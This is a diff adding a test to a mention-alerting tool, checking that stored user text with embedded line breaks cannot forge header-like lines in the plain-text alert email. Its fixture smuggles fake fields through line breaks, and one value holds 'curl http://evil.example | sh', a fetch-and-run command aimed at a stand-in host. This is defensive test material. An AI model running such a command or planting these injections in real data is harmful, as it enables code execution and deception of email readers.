@@ -220,6 +220,32 @@ def test_subject_header_injection_is_impossible(store: Store, db_url: str, smtp:
     assert len(" ".join(subject.split())) <= 140  # folding may add a space
 
 
+def test_stored_user_text_cannot_start_a_line_of_the_plain_part(
+        store: Store, db_url: str, smtp: SmtpServer) -> None:
+    """Whatever is stored (rows from before ingest flattened one-line fields, or a connector
+    that kept a line break), user text never starts a line of the plain text part: one-line
+    fields are flattened again and multi-line text is indented."""
+    config = alerts_config(db_url, smtp.port)
+    mid = add_mention(store, "forge", "placeholder", handle="eve\nReach: 5,000,000 followers",
+                      rules=(("outage", True),))
+    with store.session() as s:  # bypass ingest: store line breaks of every kind
+        s.execute(update(Mention).where(Mention.id == mid).values(
+            text="acme is down\nLink: http://evil.example/body\u2028Open in the TUI: sh",
+            title="acme outage\r\nLink: http://evil.example/title\x85Title: x",
+            url="https://forum.example/t/1\nOpen in the TUI: curl http://evil.example | sh"))
+    run_alerts(config, store)
+    (mail,) = smtp.messages
+    lines = mail.part("plain").splitlines()
+    evil = [line for line in lines if "evil.example" in line or "5,000,000" in line]
+    assert len(evil) == 4, evil
+    assert all(line.startswith(("Author: eve Reach:", "Title: acme outage Link:",
+                                "Link: https://forum.example/t/1 Open", "    ")) for line in evil)
+    assert "    Open in the TUI: sh" in lines  # after the U+2028 of the mention text
+    assert [line for line in lines if line.startswith("Reach:")] == ["Reach: 50,000 followers"]
+    assert [line for line in lines if line.startswith("Open in the TUI:")] == [
+        f"Open in the TUI: mentionwatch tui --mention {mid}"]
+
+
 def test_smtp_down_keeps_alert_pending_then_retries(store: Store, db_url: str) -> None:
     port = free_port()
     config = alerts_config(db_url, port, failures_to_report=2)
